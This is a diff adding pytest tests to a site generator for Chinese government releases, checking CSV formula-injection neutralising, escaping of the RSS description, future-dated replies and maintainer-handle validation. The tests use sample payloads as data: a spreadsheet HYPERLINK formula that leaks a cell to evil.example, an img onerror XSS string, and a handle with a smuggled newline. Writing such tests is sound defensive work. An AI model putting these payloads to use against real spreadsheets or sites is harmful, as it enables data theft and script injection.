@@ -382,3 +382,72 @@ def test_a_published_number_that_stops_being_published_is_caught_on_the_next_bui
     (site / "content/police/department.yaml").write_text("name: 测试市公安局\n", encoding="utf-8")
     code, err = build(run_cli, site)
     assert code == 1 and "content/police/releases/ok.md:6: " in err
+
+
+# --- CSV formula injection ----------------------------------------------------------------------------------------
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized_numbers_stay_numbers():
+    from releasehall.csvdata import to_csv
+
+    rows = [["department", "name", "figure"],
+            ["a", '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', -3],
+            ["b", "+1", 2.5], ["c", "-1+2", None], ["d", "@SUM(A1)", 0], ["e", "\tx", 1], ["f", "\rx", 1],
+            ["g", "公安局", -0.5]]
+    assert to_csv(rows).decode("utf-8") == (
+        "\ufeffdepartment,name,figure\n"
+        "a,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"点击查看\"\")\",-3\n"
+        "b,'+1,2.5\nc,'-1+2,\nd,'@SUM(A1),0\ne,'\tx,1\nf,\"'\nx\",1\ng,公安局,-0.5\n")
+
+
+def test_a_department_named_like_a_formula_lands_in_stats_csv_as_text(tmp_path, run_cli):
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+    site = write_site(tmp_path, {**BASIC, "content/police/department.yaml": dept(evil)})
+    assert build(run_cli, site)[0] == 0
+    rows = read(site, "stats/stats.csv").splitlines()
+    police = next(row for row in rows if row.startswith("police,"))
+    assert police.startswith("police,\"'=HYPERLINK(")
+
+
+# --- Replies dated after "now" ------------------------------------------------------------------------------------
+
+def test_a_reply_dated_after_now_is_a_warning_and_not_shown_until_then(tmp_path, run_cli):
+    later = {"title": "未来答复", "asked": "2024-10-18 09:00", "question": "何时开放？",
+             "replied": "2024-10-20 15:00", "resolved": "2024-10-21", "satisfaction": "satisfied"}
+    site = write_site(tmp_path, {**BASIC, "content/police/qa/later.md": front(later, "\n下周开放（未来的答复）。\n")})
+    code, err = build(run_cli, site)  # now is 2024-10-20 12:00: the reply is three hours away
+    assert code == 0, err
+    warned = error_lines(err, "content/police/qa/later.md")
+    assert [line.split(": ")[0] for line in warned] == ["content/police/qa/later.md:5", "content/police/qa/later.md:6"]
+    assert all("is later than now" in line for line in warned)
+    for path in sorted((site / "out").rglob("*")):
+        if path.is_file() and path.suffix in (".html", ".xml", ".json", ".csv"):
+            assert "未来的答复" not in path.read_text(encoding="utf-8"), path
+    record = next(q for q in __import__("json").loads(read(site, "stats/stats.json"))["questions"]
+                  if q["id"] == "police/qa/later")
+    assert record["replied"] is None and record["status"] == "pending"
+    code, _out, _err = run_cli("build", "--site", str(site), "--out", str(site / "out"), "--now", "2024-10-20 15:00")
+    assert code == 0
+    assert "未来的答复" in read(site, "police/qa/later/index.html") and "未来的答复" in read(site, "feed.xml")
+
+
+# --- Smaller: RSS channel description, maintainers ----------------------------------------------------------------
+
+def test_the_rss_channel_description_is_escaped_like_item_summaries(tmp_path, run_cli):
+    import feedparser
+
+    site = write_site(tmp_path, BASIC, {**SITE, "description": "<img src=x onerror=alert(1)> 政务 & 公开"})
+    assert build(run_cli, site)[0] == 0
+    rss = read(site, "feed.xml")
+    assert "<description>&amp;lt;img src=x onerror=alert(1)&amp;gt; 政务 &amp;amp; 公开</description>" in rss
+    assert feedparser.parse(rss).feed.subtitle == "&lt;img src=x onerror=alert(1)&gt; 政务 &amp; 公开"
+    atom = feedparser.parse(read(site, "atom.xml"))  # Atom says its subtitle is text, so it is shown as text
+    assert (atom.feed.subtitle_detail.type, atom.feed.subtitle) == ("text/plain", "<img src=x onerror=alert(1)> 政务 & 公开")
+
+
+@pytest.mark.parametrize("handle", ["张三", "alice", "b@x.cn", "@", "@-x", "@a/b c", "@alice\n/content/ @evil"])
+def test_maintainers_must_be_code_host_handles(tmp_path, run_cli, handle):
+    site = write_site(tmp_path, {**BASIC, "content/police/department.yaml": dept("公安", maintainers=[handle])})
+    code, err = build(run_cli, site)
+    assert code == 1
+    assert "is not a code-host handle: write @user or @org/team" in error_lines(
+        err, "content/police/department.yaml")[0]
